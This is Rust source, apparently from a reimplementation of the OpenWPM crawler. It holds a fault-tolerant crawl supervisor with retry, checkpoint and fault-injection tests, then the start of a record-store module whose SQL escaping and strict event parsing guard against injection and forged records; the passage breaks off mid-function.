/// * `init(worker)` builds per-worker browser state; it is re-invoked to
///   restart that state after a crash/hang/panic;
/// * `visit(&mut state, index, &item)` performs one attempt;
/// * `prior[i] = Some(outcome)` replays a checkpointed result for item
///   `i` without visiting (pass an empty vec for a fresh run);
/// * `on_complete(index, &outcome, attempts)` fires once per
///   newly-determined item (not for replayed priors), from worker
///   threads — checkpoint writers must synchronise internally.
#[allow(clippy::too_many_arguments)]
pub fn run_supervised<W, R, S>(
    items: Vec<W>,
    workers: usize,
    cfg: SupervisorConfig,
    meta: impl Fn(&W) -> ItemMeta + Sync,
    init: impl Fn(usize) -> S + Sync,
    visit: impl Fn(&mut S, usize, &W) -> R + Sync,
    prior: Vec<Option<VisitOutcome<R>>>,
    on_complete: impl Fn(usize, &VisitOutcome<R>, u32) + Sync,
) -> CrawlOutcome<R>
where
    W: Send,
    R: Send + Clone,
{
    run_supervised_fallible(
        items,
        workers,
        cfg,
        meta,
        init,
        move |state, i, item| Ok(visit(state, i, item)),
        prior,
        on_complete,
    )
}

/// [`run_supervised`] for visits that can fail with a typed
/// [`FailureReason`] of their own (e.g. an unparseable visit URL). An
/// `Err` attempt leaves the browser healthy and is retried under the same
/// [`RetryPolicy`] as injected faults; exhausted items surface as
/// [`VisitOutcome::Failed`] with the visit's reason.
#[allow(clippy::too_many_arguments)]
pub fn run_supervised_fallible<W, R, S>(
    items: Vec<W>,
    workers: usize,
    cfg: SupervisorConfig,
    meta: impl Fn(&W) -> ItemMeta + Sync,
    init: impl Fn(usize) -> S + Sync,
    visit: impl Fn(&mut S, usize, &W) -> Result<R, FailureReason> + Sync,
    prior: Vec<Option<VisitOutcome<R>>>,
    on_complete: impl Fn(usize, &VisitOutcome<R>, u32) + Sync,
) -> CrawlOutcome<R>
where
    W: Send,
    R: Send + Clone,
{
    run_supervised_folding(items, workers, cfg, meta, init, visit, prior, on_complete, |_, r, _| r)
}

/// [`run_supervised_fallible`] with a *fold*: after `on_complete` fires
/// for a completed item, `fold(index, record, attempts)` maps the full
/// record `R` down to the stored type `T` before it enters the outcome
/// vector. Streaming crawls use this to flush each record to disk in
/// `on_complete` and keep only O(1) bookkeeping in memory — the outcome
/// vector's resident size becomes O(items × size_of::<T>()), not
/// O(items × size_of::<R>()). Priors arrive already folded.
#[allow(clippy::too_many_arguments)]
pub fn run_supervised_folding<W, R, T, S>(
    items: Vec<W>,
    workers: usize,
    cfg: SupervisorConfig,
    meta: impl Fn(&W) -> ItemMeta + Sync,
    init: impl Fn(usize) -> S + Sync,
    visit: impl Fn(&mut S, usize, &W) -> Result<R, FailureReason> + Sync,
    prior: Vec<Option<VisitOutcome<T>>>,
    on_complete: impl Fn(usize, &VisitOutcome<R>, u32) + Sync,
    fold: impl Fn(usize, R, u32) -> T + Sync,
) -> CrawlOutcome<T>
where
    W: Send,
    R: Send,
    T: Send + Clone,
{
    let n = items.len();
    let injector = FaultInjector::new(cfg.faults);
    // Resolve up-front which indices actually run: priors replay, and a
    // visit budget admits only the first `budget` fresh items. Both are
    // functions of the index alone, never of scheduling.
    let mut fresh_seen = 0usize;
    let mut admitted: Vec<bool> = Vec::with_capacity(n);
    for i in 0..n {
        let is_fresh = prior.get(i).map(|p| p.is_none()).unwrap_or(true);
        let admit = match (is_fresh, cfg.visit_budget) {
            (false, _) => false,
            (true, Some(budget)) => {
                fresh_seen += 1;
                fresh_seen <= budget
            }
            (true, None) => true,
        };
        admitted.push(admit);
    }

    let work: Vec<(W, Option<VisitOutcome<T>>, bool)> = items
        .into_iter()
        .enumerate()
        .map(|(i, item)| {
            let replay = prior.get(i).cloned().flatten();
            (item, replay, admitted[i])
        })
        .collect();

    // No `workers` attribute: the journal must be byte-identical across
    // worker counts (scheduling never reaches the trace).
    obs::emit(Event::new(0, "crawl_start").attr("items", n));

    let runs: Vec<ItemRun<T>> = run_parallel(
        work,
        workers,
        |w| (w, init(w)),
        |(worker, state), i, (item, replay, admit)| {
            obs::begin_scope();
            if let Some(outcome) = replay {
                obs::add("checkpoint.replays", 1);
                obs::emit(Event::new(0, "checkpoint_replay").attr("item", i));
                return ItemRun {
                    outcome,
                    attempts: 0,
                    restarts: 0,
                    lost_ms: 0,
                    attempts_final: 0,
                    trace: obs::end_scope(),
                };
            }
            if !admit {
                obs::emit(Event::new(0, "interrupted").attr("item", i));
                on_complete(i, &VisitOutcome::Interrupted, 0);
                return ItemRun {
                    outcome: VisitOutcome::Interrupted,
                    attempts: 0,
                    restarts: 0,
                    lost_ms: 0,
                    attempts_final: 0,
                    trace: obs::end_scope(),
                };
            }
            let m = meta(&item);
            obs::add("supervisor.visits", 1);
            let visit_span = obs::span("visit");
            obs::emit(
                Event::new(0, "visit_start")
                    .attr("item", i)
                    .attr("label", m.label.as_str())
                    .attr("flaky", m.flaky as u64),
            );
            let mut attempts = 0u32;
            let mut restarts = 0u64;
            let mut lost_ms = 0u64;
            let outcome = loop {
                attempts += 1;
                obs::add("supervisor.attempts", 1);
                if attempts > 1 {
                    obs::add("supervisor.retries", 1);
                }
                let attempt_span = obs::span("attempt");
                obs::emit(Event::new(0, "attempt").attr("n", attempts));
                let failure: FailureReason = match injector.draw(m.fault_key, attempts, m.flaky)
                {
                    Some(kind) => {
                        let reason = FailureReason::from_fault(kind);
                        obs::add("supervisor.faults", 1);
                        obs::emit(
                            Event::new(0, "fault")
                                .attr("reason", reason.as_str())
                                .attr("attempt", attempts),
                        );
                        match kind {
                            FaultKind::Hang => {
                                // Watchdog: the visit burns its full
                                // timeout, then the browser is killed.
                                lost_ms += cfg.visit_timeout_ms;
                                obs::clock_advance(cfg.visit_timeout_ms);
                                obs::emit(
                                    Event::new(0, "watchdog_timeout")
                                        .attr("ms", cfg.visit_timeout_ms),
                                );
                                *state = init(*worker);
                                restarts += 1;
                                obs::add("supervisor.restarts", 1);
                                obs::emit(Event::new(0, "browser_restart"));
                            }
                            FaultKind::BrowserCrash => {
                                *state = init(*worker);
                                restarts += 1;
                                obs::add("supervisor.restarts", 1);
                                obs::emit(Event::new(0, "browser_restart"));
                            }
                            FaultKind::TabCrash => {
                                // The content process dies mid-visit: the
                                // attempt's work happens and is lost.
                                let _ = catch_unwind(AssertUnwindSafe(|| {
                                    visit(state, i, &item)
                                }));
                                *state = init(*worker);
                                restarts += 1;
                                obs::add("supervisor.restarts", 1);
                                obs::emit(Event::new(0, "browser_restart"));
                            }
                            // Navigation and transport errors fail fast
                            // and leave the browser healthy.
                            FaultKind::NavigationError | FaultKind::TransientHttp => {}
                        }
                        reason
                    }
                    None => match catch_unwind(AssertUnwindSafe(|| visit(state, i, &item))) {
                        Ok(Ok(r)) => {
                            drop(attempt_span);
                            break VisitOutcome::Completed(r);
                        }
                        Ok(Err(reason)) => {
                            // Typed visit failure: the browser stays
                            // healthy (no restart), the attempt is charged
                            // and retried under the normal policy.
                            obs::emit(
                                Event::new(0, "visit_error")
                                    .attr("reason", reason.as_str())
                                    .attr("attempt", attempts),
                            );
                            obs::prof::dump_forensic(
                                "visit_error",
                                &[
                                    ("item", i.to_string()),
                                    ("reason", reason.as_str().to_string()),
                                    ("attempt", attempts.to_string()),
                                ],
                            );
                            reason
                        }
                        Err(payload) => {
                            // Keep the cause visible even though the crawl
                            // survives it.
                            let msg = panic_message(payload.as_ref());
                            obs::emit(Event::new(0, "visit_panic").attr("attempt", attempts));
                            obs::prof::dump_forensic(
                                "visit_panic",
                                &[
                                    ("item", i.to_string()),
                                    ("panic", msg),
                                    ("attempt", attempts.to_string()),
                                ],
                            );
                            *state = init(*worker);
                            restarts += 1;
                            obs::add("supervisor.restarts", 1);
                            obs::emit(Event::new(0, "browser_restart"));
                            FailureReason::Panic
                        }
                    },
                };
                drop(attempt_span);
                if attempts >= cfg.retry.max_attempts {
                    obs::prof::dump_forensic(
                        "visit_failed",
                        &[
                            ("item", i.to_string()),
                            ("reason", failure.as_str().to_string()),
                            ("attempts", attempts.to_string()),
                        ],
                    );
                    break VisitOutcome::Failed { reason: failure, attempts };
                }
                let backoff = cfg.retry.backoff_ms(attempts);
                lost_ms += backoff;
                obs::clock_advance(backoff);
                obs::observe("supervisor.backoff_ms", backoff);
                obs::emit(
                    Event::new(0, "retry_backoff").attr("ms", backoff).attr("attempt", attempts),
                );
            };
            obs::observe("supervisor.attempts_per_visit", attempts as u64);
            obs::emit(
                Event::new(0, "visit_end")
                    .attr("outcome", outcome_label(&outcome))
                    .attr("attempts", attempts),
            );
            // `on_complete` runs inside the still-open visit scope so that
            // checkpoint-write events land in this visit's trace.
            on_complete(i, &outcome, attempts);
            // Fold the record down to its stored form only after the
            // completion hook has seen (and possibly persisted) the full
            // record.
            let stored = match outcome {
                VisitOutcome::Completed(r) => VisitOutcome::Completed(fold(i, r, attempts)),
                VisitOutcome::Failed { reason, attempts } => {
                    VisitOutcome::Failed { reason, attempts }
                }
                VisitOutcome::Interrupted => VisitOutcome::Interrupted,
            };
            drop(visit_span);
            ItemRun {
                outcome: stored,
                attempts: attempts as u64,
                restarts,
                lost_ms,
                attempts_final: attempts,
                trace: obs::end_scope(),
            }
        },
    );

    if let Some(journal) = obs::journal() {
        for (i, run) in runs.iter().enumerate() {
            journal.write_visit_events(i, &run.trace);
        }
    }

    let mut summary = CrawlSummary { total: n, ..CrawlSummary::default() };
    let mut by_reason: std::collections::HashMap<FailureReason, usize> =
        std::collections::HashMap::new();
    let mut outcomes = Vec::with_capacity(n);
    let mut attempts_per_item = Vec::with_capacity(n);
    for run in runs {
        attempts_per_item.push(run.attempts_final);
        summary.attempts += run.attempts;
        summary.restarts += run.restarts;
        summary.lost_ms += run.lost_ms;
        match &run.outcome {
            VisitOutcome::Completed(_) => {
                summary.completed += 1;
                if run.attempts_final > 1 {
                    summary.recovered += 1;
                }
            }
            VisitOutcome::Failed { reason, .. } => {
                summary.failed += 1;
                *by_reason.entry(reason.clone()).or_insert(0) += 1;
            }
            VisitOutcome::Interrupted => summary.interrupted += 1,
        }
        outcomes.push(run.outcome);
    }
    // Known reasons in `all()` order, then any `Unknown` reasons (replayed
    // from cross-build checkpoints) sorted by name for determinism.
    summary.failures_by_reason = FailureReason::all()
        .into_iter()
        .filter_map(|r| by_reason.remove(&r).map(|n| (r, n)))
        .collect();
    let mut unknown: Vec<(FailureReason, usize)> = by_reason.into_iter().collect();
    unknown.sort_by(|(a, _), (b, _)| a.as_str().cmp(b.as_str()));
    summary.failures_by_reason.extend(unknown);
    obs::add("supervisor.visits.completed", summary.completed as u64);
    obs::add("supervisor.visits.failed", summary.failed as u64);
    obs::add("supervisor.visits.interrupted", summary.interrupted as u64);
    obs::emit(
        Event::new(0, "crawl_end")
            .attr("completed", summary.completed)
            .attr("failed", summary.failed)
            .attr("interrupted", summary.interrupted)
            .attr("attempts", summary.attempts)
            .attr("restarts", summary.restarts)
            .attr("lost_ms", summary.lost_ms),
    );
    CrawlOutcome { outcomes, attempts: attempts_per_item, summary }
}

fn outcome_label<R>(outcome: &VisitOutcome<R>) -> &str {
    match outcome {
        VisitOutcome::Completed(_) => "completed",
        VisitOutcome::Failed { reason, .. } => reason.as_str(),
        VisitOutcome::Interrupted => "interrupted",
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::sync::atomic::{AtomicUsize, Ordering};
    use std::sync::Mutex;

    #[test]
    fn failure_reason_round_trips_and_rejects_garbage() {
        for r in FailureReason::all() {
            assert_eq!(FailureReason::parse(r.as_str()), Some(r.clone()), "{}", r.as_str());
        }
        proplite::run_cases(2000, 0xFA11, |rng| {
            let s = match rng.u32_in(0, 2) {
                0 => rng.ascii(0, 24),
                1 => rng.any_string(0, 24),
                // Near-misses: a valid name with one mutation.
                _ => {
                    let all = FailureReason::all();
                    let base = all[rng.usize_in(0, all.len() - 1)].as_str();
                    let mut s = base.to_string();
                    match rng.u32_in(0, 2) {
                        0 => s.push('x'),
                        1 => s = s.to_uppercase(),
                        _ => {
                            s.pop();
                        }
                    }
                    s
                }
            };
            match FailureReason::parse(&s) {
                // parse may only accept exact canonical names.
                Some(r) => assert_eq!(r.as_str(), s),
                None => assert!(
                    FailureReason::all().iter().all(|r| r.as_str() != s),
                    "rejected a canonical name: {s:?}"
                ),
            }
        });
    }

    #[test]
    fn unknown_reasons_decode_totally_and_round_trip() {
        assert_eq!(FailureReason::decode("timeout"), FailureReason::Timeout);
        let u = FailureReason::decode("quantum_decoherence");
        assert_eq!(u, FailureReason::Unknown("quantum_decoherence".to_string()));
        assert_eq!(u.as_str(), "quantum_decoherence");
        assert_eq!(FailureReason::decode(u.as_str()), u);
        // The strict parser still rejects it — only `decode` is total.
        assert_eq!(FailureReason::parse("quantum_decoherence"), None);
    }

    #[test]
    fn unknown_prior_reasons_tally_after_known_ones() {
        let mut prior: Vec<Option<VisitOutcome<u64>>> = vec![None; 5];
        prior[1] = Some(VisitOutcome::Failed {
            reason: FailureReason::decode("zz_future_reason"),
            attempts: 2,
        });
        prior[2] = Some(VisitOutcome::Failed { reason: FailureReason::Timeout, attempts: 3 });
        prior[3] = Some(VisitOutcome::Failed {
            reason: FailureReason::decode("aa_future_reason"),
            attempts: 1,
        });
        let out = run_supervised(
            (0..5u64).collect(),
            2,
            SupervisorConfig::default(),
            meta_of,
            |_| (),
            |_, _, item: &u64| *item,
            prior,
            |_, _, _| {},
        );
        assert_eq!(
            out.summary.failures_by_reason,
            vec![
                (FailureReason::Timeout, 1),
                (FailureReason::Unknown("aa_future_reason".to_string()), 1),
                (FailureReason::Unknown("zz_future_reason".to_string()), 1),
            ],
            "known reasons first, unknowns sorted by name"
        );
    }

    #[test]
    fn folding_runner_folds_after_the_completion_hook() {
        let hook_saw = Mutex::new(Vec::new());
        let out = run_supervised_folding(
            (0..10u64).collect(),
            2,
            SupervisorConfig::default(),
            meta_of,
            |_| (),
            |_, _, item: &u64| Ok::<Vec<u64>, FailureReason>(vec![*item; 100]),
            Vec::new(),
            |i, o: &VisitOutcome<Vec<u64>>, _| {
                if let Some(r) = o.completed() {
                    assert_eq!(r.len(), 100, "hook must see the full record");
                    hook_saw.lock().unwrap().push(i);
                }
            },
            |i, r, attempts| {
                assert_eq!(attempts, 1);
                (i as u64, r.len() as u64)
            },
        );
        assert_eq!(out.summary.completed, 10);
        for (i, o) in out.outcomes.iter().enumerate() {
            assert_eq!(o.completed(), Some(&(i as u64, 100)));
        }
        assert_eq!(hook_saw.into_inner().unwrap().len(), 10);
    }

    fn meta_of(x: &u64) -> ItemMeta {
        ItemMeta { label: format!("item-{x}"), fault_key: *x, flaky: false }
    }

    fn run_plain(
        items: Vec<u64>,
        workers: usize,
        cfg: SupervisorConfig,
    ) -> CrawlOutcome<u64> {
        run_supervised(
            items,
            workers,
            cfg,
            meta_of,
            |_| 0u64,
            |state, _, item| {
                *state += 1;
                item * 2
            },
            Vec::new(),
            |_, _, _| {},
        )
    }

    #[test]
    fn clean_run_completes_everything() {
        let out = run_plain((0..100).collect(), 4, SupervisorConfig::default());
        assert_eq!(out.summary.completed, 100);
        assert_eq!(out.summary.failed, 0);
        assert_eq!(out.summary.completion_rate(), 1.0);
        for (i, o) in out.outcomes.iter().enumerate() {
            assert_eq!(o.completed(), Some(&((i as u64) * 2)));
        }
    }

    #[test]
    fn panicking_visits_degrade_to_failed_records() {
        let cfg = SupervisorConfig::default();
        let out = run_supervised(
            (0..50u64).collect(),
            3,
            cfg,
            meta_of,
            |_| (),
            |_, _, item: &u64| {
                if item % 10 == 3 {
                    panic!("visit exploded");
                }
                *item
            },
            Vec::new(),
            |_, _, _| {},
        );
        assert_eq!(out.summary.completed, 45);
        assert_eq!(out.summary.failed, 5);
        assert_eq!(
            out.summary.failures_by_reason,
            vec![(FailureReason::Panic, 5)]
        );
        // Each panicking site burned max_attempts and restarted each time.
        assert_eq!(out.summary.restarts, 5 * cfg.retry.max_attempts as u64);
        for (i, o) in out.outcomes.iter().enumerate() {
            if i % 10 == 3 {
                assert_eq!(
                    *o,
                    VisitOutcome::Failed {
                        reason: FailureReason::Panic,
                        attempts: cfg.retry.max_attempts
                    }
                );
            } else {
                assert!(o.is_completed());
            }
        }
    }

    #[test]
    fn injected_faults_retry_and_mostly_recover() {
        let cfg = SupervisorConfig {
            faults: FaultPlan::adversarial(99),
            ..SupervisorConfig::default()
        };
        let out = run_plain((0..2000).collect(), 4, cfg);
        assert_eq!(out.summary.total, 2000);
        // ~8% of first attempts fault but retries clear most: overall
        // completion must stay high.
        assert!(
            out.summary.completion_rate() > 0.95,
            "completion {:.3}",
            out.summary.completion_rate()
        );
        assert!(out.summary.recovered > 0, "no site ever needed a retry");
        // Completed values are still correct after retries.
        for (i, o) in out.outcomes.iter().enumerate() {
            if let Some(v) = o.completed() {
                assert_eq!(*v, (i as u64) * 2);
            }
        }
    }

    #[test]
    fn outcomes_are_deterministic_across_worker_counts() {
        let cfg = SupervisorConfig {
            faults: FaultPlan::adversarial(7),
            ..SupervisorConfig::default()
        };
        let a = run_plain((0..500).collect(), 1, cfg);
        let b = run_plain((0..500).collect(), 4, cfg);
        assert_eq!(a.outcomes, b.outcomes);
        assert_eq!(a.summary, b.summary);
    }

    #[test]
    fn hang_charges_timeout_and_restarts() {
        // A plan that only hangs, always.
        let cfg = SupervisorConfig {
            faults: FaultPlan {
                hang_per_mille: 1000,
                seed: 1,
                ..FaultPlan::default()
            },
            retry: RetryPolicy { max_attempts: 2, ..RetryPolicy::default() },
            visit_timeout_ms: 45_000,
            ..SupervisorConfig::default()
        };
        let out = run_plain(vec![1, 2, 3], 1, cfg);
        assert_eq!(out.summary.failed, 3);
        assert_eq!(
            out.summary.failures_by_reason,
            vec![(FailureReason::Timeout, 3)]
        );
        // 2 attempts × 45 s timeout + 1 backoff of 1 s, per item.
        assert_eq!(out.summary.lost_ms, 3 * (2 * 45_000 + 1_000));
        assert_eq!(out.summary.restarts, 6);
    }

    #[test]
    fn tab_crash_discards_work_and_restarts() {
        let cfg = SupervisorConfig {
            faults: FaultPlan {
                tab_crash_per_mille: 1000,
                seed: 1,
                ..FaultPlan::default()
            },
            retry: RetryPolicy::none(),
            ..SupervisorConfig::default()
        };
        let visits = AtomicUsize::new(0);
        let out = run_supervised(
            vec![1u64],
            1,
            cfg,
            meta_of,
            |_| (),
            |_, _, item: &u64| {
                visits.fetch_add(1, Ordering::Relaxed);
                *item
            },
            Vec::new(),
            |_, _, _| {},
        );
        // The visit ran (work happened) but its result was lost.
        assert_eq!(visits.load(Ordering::Relaxed), 1);
        assert_eq!(
            out.outcomes[0],
            VisitOutcome::Failed { reason: FailureReason::TabCrash, attempts: 1 }
        );
        assert_eq!(out.summary.restarts, 1);
    }

    #[test]
    fn backoff_is_bounded_exponential() {
        let p = RetryPolicy { max_attempts: 10, base_backoff_ms: 100, max_backoff_ms: 1_500 };
        assert_eq!(p.backoff_ms(1), 100);
        assert_eq!(p.backoff_ms(2), 200);
        assert_eq!(p.backoff_ms(3), 400);
        assert_eq!(p.backoff_ms(5), 1_500); // capped
        assert_eq!(p.backoff_ms(10), 1_500);
    }

    #[test]
    fn visit_budget_interrupts_the_tail() {
        let cfg = SupervisorConfig {
            visit_budget: Some(30),
            ..SupervisorConfig::default()
        };
        let out = run_plain((0..100).collect(), 4, cfg);
        assert_eq!(out.summary.completed, 30);
        assert_eq!(out.summary.interrupted, 70);
        for (i, o) in out.outcomes.iter().enumerate() {
            if i < 30 {
                assert!(o.is_completed());
            } else {
                assert_eq!(*o, VisitOutcome::Interrupted);
            }
        }
    }

    #[test]
    fn priors_replay_without_revisiting() {
        let visited = Mutex::new(Vec::new());
        let mut prior: Vec<Option<VisitOutcome<u64>>> = vec![None; 10];
        prior[3] = Some(VisitOutcome::Completed(999));
        prior[7] = Some(VisitOutcome::Failed {
            reason: FailureReason::Timeout,
            attempts: 3,
        });
        let out = run_supervised(
            (0..10u64).collect(),
            2,
            SupervisorConfig::default(),
            meta_of,
            |_| (),
            |_, i, item: &u64| {
                visited.lock().unwrap().push(i);
                *item
            },
            prior,
            |_, _, _| {},
        );
        let mut visited = visited.into_inner().unwrap();
        visited.sort_unstable();
        assert_eq!(visited, vec![0, 1, 2, 4, 5, 6, 8, 9]);
        assert_eq!(out.outcomes[3], VisitOutcome::Completed(999));
        assert_eq!(
            out.outcomes[7],
            VisitOutcome::Failed { reason: FailureReason::Timeout, attempts: 3 }
        );
        assert_eq!(out.summary.completed, 9);
        assert_eq!(out.summary.failed, 1);
    }

    #[test]
    fn budget_counts_only_fresh_items() {
        // 5 priors + budget 5 → items 0..10 all determined, rest interrupted.
        let prior: Vec<Option<VisitOutcome<u64>>> =
            (0..20).map(|i| (i < 5).then_some(VisitOutcome::Completed(0))).collect();
        let cfg = SupervisorConfig {
            visit_budget: Some(5),
            ..SupervisorConfig::default()
        };
        let out = run_supervised(
            (0..20u64).collect(),
            2,
            cfg,
            meta_of,
            |_| (),
            |_, _, item: &u64| *item,
            prior,
            |_, _, _| {},
        );
        assert_eq!(out.summary.completed, 10);
        assert_eq!(out.summary.interrupted, 10);
    }

    #[test]
    fn on_complete_fires_for_fresh_items_only() {
        let seen = Mutex::new(Vec::new());
        let mut prior: Vec<Option<VisitOutcome<u64>>> = vec![None; 6];
        prior[0] = Some(VisitOutcome::Completed(0));
        run_supervised(
            (0..6u64).collect(),
            1,
            SupervisorConfig::default(),
            meta_of,
            |_| (),
            |_, _, item: &u64| *item,
            prior,
            |i, _, _| seen.lock().unwrap().push(i),
        );
        let mut seen = seen.into_inner().unwrap();
        seen.sort_unstable();
        assert_eq!(seen, vec![1, 2, 3, 4, 5]);
    }

    #[test]
    fn interrupted_then_resumed_equals_uninterrupted() {
        let faulty = SupervisorConfig {
            faults: FaultPlan::adversarial(13),
            ..SupervisorConfig::default()
        };
        let full = run_plain((0..200).collect(), 3, faulty);

        // "Kill" after 80 fresh visits...
        let killed = run_plain(
            (0..200).collect(),
            3,
            SupervisorConfig { visit_budget: Some(80), ..faulty },
        );
        assert_eq!(killed.summary.interrupted, 120);
        // ...checkpoint the determined outcomes, resume with them as prior.
        let prior: Vec<Option<VisitOutcome<u64>>> = killed
            .outcomes
            .iter()
            .map(|o| match o {
                VisitOutcome::Interrupted => None,
                other => Some(other.clone()),
            })
            .collect();
        let resumed = run_supervised(
            (0..200u64).collect(),
            3,
            faulty,
            meta_of,
            |_| 0u64,
            |state, _, item| {
                *state += 1;
                item * 2
            },
            prior,
            |_, _, _| {},
        );
        assert_eq!(resumed.outcomes, full.outcomes);
        assert_eq!(resumed.summary.completed, full.summary.completed);
        assert_eq!(resumed.summary.failed, full.summary.failed);
        assert_eq!(
            resumed.summary.failures_by_reason,
            full.summary.failures_by_reason
        );
    }

    #[test]
    fn coverage_line_reports_breakdown() {
        let mut s = CrawlSummary {
            total: 1000,
            completed: 950,
            failed: 40,
            interrupted: 10,
            ..CrawlSummary::default()
        };
        s.failures_by_reason =
            vec![(FailureReason::BrowserCrash, 30), (FailureReason::Timeout, 10)];
        let line = s.coverage_line();
        assert!(line.contains("950/1000"));
        assert!(line.contains("95.0%"));
        assert!(line.contains("30 browser_crash"));
        assert!(line.contains("10 timeout"));
        assert!(line.contains("10 interrupted"));
    }
}
