//! The data-recording back-end ("SQLite" in real OpenWPM).
//!
//! Every instrument writes typed records into a [`RecordStore`]. Sec. 5.3 of
//! the paper checked OpenWPM v0.20.0's back-end for SQL injection and found
//! inputs properly sanitised; we model that by (a) keeping typed records and
//! (b) exposing an SQL rendering used for persistence whose string escaping
//! is tested against injection-shaped inputs.

use netsim::{Cookie, HttpRequest, HttpResponse};

/// What a JavaScript-instrument record describes.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash)]
pub enum JsOperation {
    Get,
    Set,
    Call,
}

impl JsOperation {
    pub fn as_str(&self) -> &'static str {
        match self {
            JsOperation::Get => "get",
            JsOperation::Set => "set",
            JsOperation::Call => "call",
        }
    }

    /// Parse an operation string from event data. Returns `None` for
    /// anything unknown: event payloads come from page-reachable
    /// channels, and silently coercing garbage to `Get` would let a
    /// hostile page fabricate plausible-looking read records (the
    /// fake-data attack of Sec. 5.2). Callers drop the record and count
    /// it in [`RecordStore::malformed_events`] instead.
    pub fn parse(s: &str) -> Option<JsOperation> {
        match s {
            "get" => Some(JsOperation::Get),
            "set" => Some(JsOperation::Set),
            "call" => Some(JsOperation::Call),
            _ => None,
        }
    }
}

/// Terminal status of one site visit, as persisted to `crawl_history`.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash)]
pub enum CrawlStatus {
    /// Visit completed and its data was committed.
    Ok,
    /// All retries exhausted; the site contributed no data.
    Failed,
    /// The crawl stopped before this site was visited.
    Interrupted,
}

impl CrawlStatus {
    pub fn as_str(&self) -> &'static str {
        match self {
            CrawlStatus::Ok => "ok",
            CrawlStatus::Failed => "failed",
            CrawlStatus::Interrupted => "interrupted",
        }
    }
}

/// One row of OpenWPM's `crawl_history` table: what happened to each
/// commanded visit. Sites with a non-`Ok` status also land in
/// `incomplete_visits` — the paper's point is that these denominators
/// must be reported alongside every measurement table.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct CrawlHistoryRecord {
    /// Stable visit identifier (the site's rank in the crawl list).
    pub visit_id: u64,
    pub site_url: String,
    pub status: CrawlStatus,
    /// Failure reason string (e.g. `browser_crash`); empty when `Ok`.
    pub error: String,
    /// Visit attempts consumed (0 for interrupted sites).
    pub attempts: u32,
}

impl CrawlHistoryRecord {
    pub fn ok(visit_id: u64, site_url: &str, attempts: u32) -> CrawlHistoryRecord {
        CrawlHistoryRecord {
            visit_id,
            site_url: site_url.to_string(),
            status: CrawlStatus::Ok,
            error: String::new(),
            attempts,
        }
    }

    pub fn failed(
        visit_id: u64,
        site_url: &str,
        error: &str,
        attempts: u32,
    ) -> CrawlHistoryRecord {
        CrawlHistoryRecord {
            visit_id,
            site_url: site_url.to_string(),
            status: CrawlStatus::Failed,
            error: error.to_string(),
            attempts,
        }
    }

    pub fn interrupted(visit_id: u64, site_url: &str) -> CrawlHistoryRecord {
        CrawlHistoryRecord {
            visit_id,
            site_url: site_url.to_string(),
            status: CrawlStatus::Interrupted,
            error: String::new(),
            attempts: 0,
        }
    }
}

/// One recorded JavaScript API access.
#[derive(Clone, Debug)]
pub struct JsCallRecord {
    /// Symbol accessed, e.g. `window.navigator.userAgent`.
    pub symbol: String,
    pub operation: JsOperation,
    /// Stringified value/arguments preview.
    pub value: String,
    /// Script the access originated from (stack-derived; instrument frames
    /// skipped). Spoofable by the fake-data attack — unlike `page_url`.
    pub script_url: String,
    /// The visited page. Set host-side by OpenWPM, *not* from event data —
    /// this is why the injection attack cannot spoof it (Sec. 5.2).
    pub page_url: String,
    pub time_ms: u64,
}

/// A saved JavaScript file (the HTTP instrument's script store).
#[derive(Clone, Debug)]
pub struct SavedScript {
    pub url: String,
    pub body: String,
    pub page_url: String,
}

/// The embedded record store.
#[derive(Clone, Debug, Default)]
pub struct RecordStore {
    pub js_calls: Vec<JsCallRecord>,
    pub http_requests: Vec<HttpRequest>,
    pub http_responses: Vec<HttpResponse>,
    pub saved_scripts: Vec<SavedScript>,
    pub cookies: Vec<Cookie>,
    /// Visit-level completion accounting (`crawl_history` rows).
    pub crawl_history: Vec<CrawlHistoryRecord>,
    /// Instrument events dropped because their payload was malformed
    /// (e.g. an unknown operation string). A non-zero count flags either
    /// an instrument bug or a page tampering with the event channel.
    pub malformed_events: u64,
}

impl RecordStore {
    pub fn new() -> RecordStore {
        RecordStore::default()
    }

    /// Escape a string for inclusion in a single-quoted SQL literal.
    /// Doubling `'` is the SQLite-correct quoting; control characters are
    /// stripped so multi-statement smuggling via `\n;` is inert too.
    pub fn sql_escape(s: &str) -> String {
        s.chars()
            .filter(|c| !c.is_control())
            .collect::<String>()
            .replace('\'', "''")
    }

    /// Render a `javascript` table INSERT for a record — the persistence
    /// path whose sanitisation Sec. 5.3 validated.
    pub fn render_js_insert(rec: &JsCallRecord) -> String {
        format!(
            "INSERT INTO javascript (symbol, operation, value, script_url, page_url, time_ms) \
             VALUES ('{}', '{}', '{}', '{}', '{}', {});",
            Self::sql_escape(&rec.symbol),
            rec.operation.as_str(),
            Self::sql_escape(&rec.value),
            Self::sql_escape(&rec.script_url),
            Self::sql_escape(&rec.page_url),
            rec.time_ms
        )
    }

    /// Number of distinct symbols recorded (used by coverage analyses).
    pub fn distinct_symbols(&self) -> usize {
        let mut set: Vec<&str> = self.js_calls.iter().map(|r| r.symbol.as_str()).collect();
        set.sort_unstable();
        set.dedup();
        set.len()
    }

    /// Records whose symbol matches a suffix (e.g. `.webdriver`).
    pub fn calls_to<'a>(
        &'a self,
        symbol_suffix: &'a str,
    ) -> impl Iterator<Item = &'a JsCallRecord> + 'a {
        self.js_calls.iter().filter(move |r| r.symbol.ends_with(symbol_suffix))
    }

    /// Render the full crawl database as an SQL dump — schema plus one
    /// INSERT per record, all string fields escaped. This is the
    /// persistence surface whose injection-safety Sec. 5.3 verified.
    pub fn render_sql_dump(&self) -> String {
        let mut out = String::from(
            "CREATE TABLE javascript (symbol TEXT, operation TEXT, value TEXT, \
             script_url TEXT, page_url TEXT, time_ms INTEGER);\n\
             CREATE TABLE http_requests (url TEXT, page_url TEXT, resource_type TEXT, \
             method TEXT, time_ms INTEGER);\n\
             CREATE TABLE javascript_files (url TEXT, page_url TEXT, body TEXT);\n\
             CREATE TABLE cookies (name TEXT, value TEXT, domain TEXT, page_domain TEXT, \
             expires_in_s INTEGER);\n\
             CREATE TABLE crawl_history (visit_id INTEGER, site_url TEXT, \
             command_status TEXT, error TEXT, retry_number INTEGER);\n\
             CREATE TABLE incomplete_visits (visit_id INTEGER);\n",
        );
        for rec in &self.js_calls {
            out.push_str(&Self::render_js_insert(rec));
            out.push('\n');
        }
        for req in &self.http_requests {
            out.push_str(&format!(
